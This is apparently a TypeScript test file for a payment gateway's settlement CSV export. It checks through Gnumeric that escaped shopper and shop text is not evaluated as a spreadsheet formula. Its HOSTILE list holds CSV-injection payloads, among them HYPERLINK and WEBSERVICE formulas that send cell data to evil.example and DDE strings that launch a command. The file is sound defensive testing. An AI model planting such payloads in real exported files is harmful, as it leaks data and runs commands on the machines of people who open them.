/** The reconciliation file in a spreadsheet: Gnumeric opens it. */
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { HEADER, harmless, quoted } from '../../../../src/gateway/domain/settlement/csv.ts';
import { temporaryFolder } from '../../harness.ts';

const SSCONVERT = '/usr/bin/ssconvert';
const isThere = existsSync(SSCONVERT);
const NAME = isThere ? 'a spreadsheet' : 'a spreadsheet (gnumeric is not installed)';

/** Texts of a shopper or a shop, each of which some spreadsheet reads as a formula. */
const HOSTILE = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?"&A1;"details")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/"&A1)',
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+2',
  '\r=1+2',
  '"=1+2',
  ';=1+2',
  '\n=1+2',
  "'=1+2",
  '＝1+2',
  'Jane,=4+4',
  'Jane\t=4+4',
  'Jane, =4+4',
  'Jane|@SUM(1+1)',
];

interface Cell {
  readonly column: number;
  readonly isFormula: boolean;
  readonly text: string;
}

/** The cells of a file with these lines, as the spreadsheet reads them, without the header. */
function cellsOf(lines: readonly string[]): Cell[] {
  const folder = temporaryFolder();
  const [file, opened] = [join(folder, 'file.csv'), join(folder, 'file.xml')];
  writeFileSync(file, HEADER + lines.join(''));
  const { status, stderr } = spawnSync(SSCONVERT, ['-T', 'Gnumeric_XmlIO:sax:0', file, opened]);
  expect([status, String(stderr)]).toEqual([0, expect.any(String)]);
  const cells = readFileSync(opened, 'utf8').matchAll(
    /<gnm:Cell Row="(\d+)" Col="(\d+)"([^>]*)>([^<]*)/g,
  );
  return [...cells].flatMap(([, row, column, attributes = '', text = '']) =>
    row === '0' ? [] : [{ column: Number(column), isFormula: !/ValueType/.test(attributes), text }],
  );
}

/** A line with a text in its second column, with as many columns as the header. */
const lineWith = (text: string) =>
  `DB;${quoted(text)}${';1'.repeat(HEADER.split(';').length - 2)}\n`;

it.skipIf(!isThere)(`${NAME} does not calculate a text that begins like a formula`, () => {
  const cells = cellsOf(HOSTILE.map((text) => lineWith(harmless(text))));
  expect(cells.filter(({ isFormula }) => isFormula)).toEqual([]);
  expect(cells.filter(({ column }) => column === 1).length).toBeGreaterThanOrEqual(HOSTILE.length);
});

it.skipIf(!isThere)(`${NAME} calculates the same text without its apostrophe`, () => {
  const cells = cellsOf(HOSTILE.map(lineWith));
  expect(cells.filter(({ isFormula }) => isFormula).length).toBeGreaterThan(0);
});
